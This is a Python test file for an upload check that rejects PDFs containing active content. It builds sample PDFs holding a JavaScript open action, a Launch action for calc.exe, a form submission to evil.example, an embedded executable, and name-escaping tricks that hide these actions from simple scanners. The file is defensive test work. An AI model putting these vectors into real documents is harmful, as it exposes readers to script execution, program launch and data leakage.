"""PDFs with active content (scripts, actions, attached files, media, XFA) are refused at upload, wherever in the file
the content sits: a plain object, an escaped name, or an object packed in a compressed object stream."""

import io
import os
import struct
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from credentials.domain.portfolio.file_kinds import UnsupportedFile, detect_kind

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R%s >>"
CONTENT = b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Exit tickets) Tj ET\nendstream"


def classic(catalog: bytes = b"", page: bytes = b"", *extra: bytes, broken_xref: bool = False) -> bytes:
    """A PDF 1.4 with a cross-reference table; ``extra`` objects are numbered from 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE % page,
        CONTENT,
        *extra,
    ]
    out, offsets = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref + 7 * broken_xref)
    return bytes(out)


def packed(catalog: bytes = b"", page: bytes = b"", *extra: bytes, broken_xref: bool = False) -> bytes:
    """A PDF 1.5 whose catalog, pages, page and ``extra`` objects (numbered from 6) sit in one compressed object
    stream (object 5), found through a cross-reference stream."""
    inside = {
        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % page,
        **{6 + i: obj for i, obj in enumerate(extra)},
    }
    header, body = b"", b""
    for number, obj in inside.items():
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    data = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {4: len(out)}
    out += b"4 0 obj\n%s\nendobj\n" % CONTENT
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(inside),
        len(header),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    size = max(inside) + 2
    xref_number = size - 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(size):
        if number in offsets:
            rows += struct.pack(">BLH", 1, offsets[number], 0)
        elif number in inside:
            rows += struct.pack(">BLH", 2, 5, list(inside).index(number))
        else:
            rows += struct.pack(">BLH", 0, 0, 0xFFFF)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % (offsets[xref_number] + 5 * broken_xref)
    return bytes(out)


def detected(tmp_path, data: bytes):
    path = tmp_path / "upload.pdf"
    path.write_bytes(data)
    return detect_kind(path)


def refusal(tmp_path, data: bytes) -> str:
    with pytest.raises(UnsupportedFile) as caught:
        detected(tmp_path, data)
    return caught.value.errors["file"]


def written(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


JS_ACTION = b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
VECTORS = {
    "JavaScript opening action": ((JS_ACTION, b""), "JavaScript"),
    "JavaScript name tree": ((b" /Names << /JavaScript 5 0 R >>", b"", b"<< /Names [(a) 6 0 R] >>"), "JavaScript"),
    "page action that starts a program": ((b"", b" /AA << /O << /S /Launch /F (calc.exe) >> >>"), "starts a program"),
    "form that sends its data": (
        (b" /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", b""),
        "sends its contents to a web address",
    ),
    "import of data": ((b" /OpenAction << /S /ImportData /F (answers.fdf) >>", b""), "reads data from another file"),
    "link to another file": ((b" /OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>", b""), "opens another file"),
    "rich media annotation": (
        (b"", b" /Annots [5 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        "embedded media",
    ),
    "attached file": (
        (b" /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", b"", b"<< /Type /Filespec /F (a.exe) >>"),
        "attached files",
    ),
    "embedded file stream": ((b"", b"", b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "attached"),
    "XFA form": ((b" /AcroForm << /Fields [] /XFA 5 0 R >>", b"", b"<< /Length 0 >>\nstream\n\nendstream"), "XFA"),
    "escaped name": ((b" /OpenAction << /S /J#61va#53cript /JS (app.alert\\(1\\)) >>", b""), "JavaScript"),
    "escaped in hex of either case": ((b" /OpenAction << /S /Lau#6ech /F (calc.exe) >>", b""), "starts a program"),
}


@pytest.mark.parametrize("layout", [classic, packed])
@pytest.mark.parametrize("vector", VECTORS)
def test_active_content_is_refused_in_plain_objects_and_in_object_streams(tmp_path, layout, vector):
    parts, says = VECTORS[vector]
    message = refusal(tmp_path, layout(*parts))
    assert says in message
    assert message.startswith("That PDF contains ") and "print it to a new PDF" in message


def test_a_script_without_its_action_type_is_found_inside_an_object_stream(tmp_path):
    assert "JavaScript" in refusal(tmp_path, packed(b" /OpenAction 6 0 R", b"", b"<< /JS (app.alert\\(1\\)) >>"))


@pytest.mark.parametrize("layout", [classic, packed])
def test_a_damaged_cross_reference_table_does_not_hide_anything(tmp_path, layout):
    assert "JavaScript" in refusal(tmp_path, layout(JS_ACTION, b"", broken_xref=True))


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("JavaScript", lambda w: w.add_open_action(JavaScript("app.alert('hello');")), "JavaScript"),
        ("attachment", lambda w: w.add_attachment("notes.txt", b"hello"), "attached files"),
        ("a user password", lambda w: w.encrypt(user_password="secret", owner_password="owner"), "password"),
    ],
)
def test_pdfs_written_by_a_pdf_library_are_refused(tmp_path, name, build, says):
    assert says in refusal(tmp_path, written(build))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("LibreOffice's opening view", classic(b" /OpenAction [3 0 R /XYZ null null 0]")),
        ("an opening jump", packed(b" /OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
        (
            "a web link",
            classic(b"", b" /Annots [5 0 R]", b"<< /Subtype /Link /A << /S /URI /URI (https://a.example/) >> >>"),
        ),
        ("a page action that jumps", packed(b"", b" /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")),
        ("an owner password only", written(lambda w: w.encrypt(user_password="", owner_password="owner"))),
        (
            "compressed noise",
            classic(b"", b"", b"<< /Length 2000000 >>\nstream\n" + os.urandom(2_000_000) + b"\nendstream"),
        ),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_ordinary_pdfs_are_accepted(tmp_path, name, data):
    assert detected(tmp_path, data).kind == "pdf", name


def lying(data: bytes) -> bytes:
    """The PDF ending in a cross-reference table that declares entries it does not have, which pypdf cannot read
    but viewers open by searching the file for its objects."""
    body = data[: data.rindex(b"startxref")]
    return body + b"xref\n0 9\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(
        body
    )


@pytest.mark.parametrize("layout", [classic, packed])
def test_a_pdf_pypdf_cannot_read_is_checked_by_searching_its_bytes(tmp_path, layout):
    assert detected(tmp_path, lying(layout())).kind == "pdf"
    hidden = layout(b" /OpenAction 6 0 R", b"", b"<< /JS (app.alert\\(1\\)) >>")
    if layout is classic:
        hidden = layout(JS_ACTION)
    assert "JavaScript" in refusal(tmp_path, lying(hidden))


def test_an_object_stream_that_cannot_be_unpacked_without_pypdf_is_refused(tmp_path):
    data = lying(packed(b" /OpenAction 6 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>"))
    at = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
    broken = data[:at] + b"\x00\x00" + data[at + 2 :]  # no longer a zlib stream
    assert "damaged and could not be checked" in refusal(tmp_path, broken)
